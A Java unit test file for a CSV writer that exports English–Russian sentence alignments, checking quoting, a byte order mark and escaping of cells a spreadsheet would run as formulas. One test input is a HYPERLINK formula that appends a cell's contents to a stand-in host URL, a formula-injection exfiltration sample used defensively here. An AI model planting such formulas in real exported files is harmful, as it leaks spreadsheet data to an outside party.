package org.triptych.io.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AlignmentCsvWriterTest {

    @TempDir
    Path dir;

    @Test
    void quotesFieldsThatNeedItAndStartsWithAByteOrderMark() throws Exception {
        Path file = dir.resolve("rows.csv");
        new AlignmentCsvWriter().write(file, List.of("en", "ru"), List.of(
                new AlignmentCsvWriter.Row(List.of(List.of(0, 1), List.of(0)),
                        List.of("He said, \"yes\".", "Он сказал: «да».")),
                new AlignmentCsvWriter.Row(List.of(List.of(2), List.of()), List.of("Two\nlines", ""))));
        String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
        assertEquals("\uFEFFen_units,en,ru_units,ru\r\n"
                + "0 1,\"He said, \"\"yes\"\".\",0,Он сказал: «да».\r\n"
                + "2,\"Two\nlines\",,\r\n", text);
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws Exception {
        Path file = dir.resolve("rows.csv");
        new AlignmentCsvWriter().write(file, List.of("en", "ru"), List.of(
                new AlignmentCsvWriter.Row(List.of(List.of(0), List.of(0)),
                        List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+7 495 123")),
                new AlignmentCsvWriter.Row(List.of(List.of(1), List.of(1)), List.of("@SUM(A1:A9)", "-2+3")),
                new AlignmentCsvWriter.Row(List.of(List.of(2), List.of(2)), List.of("-12", "- Да, - сказал он."))));
        String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
        assertEquals("\uFEFFen_units,en,ru_units,ru\r\n"
                + "0,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",0,'+7 495 123\r\n"
                + "1,'@SUM(A1:A9),1,'-2+3\r\n"
                + "2,-12,2,\"'- Да, - сказал он.\"\r\n", text);
    }
}
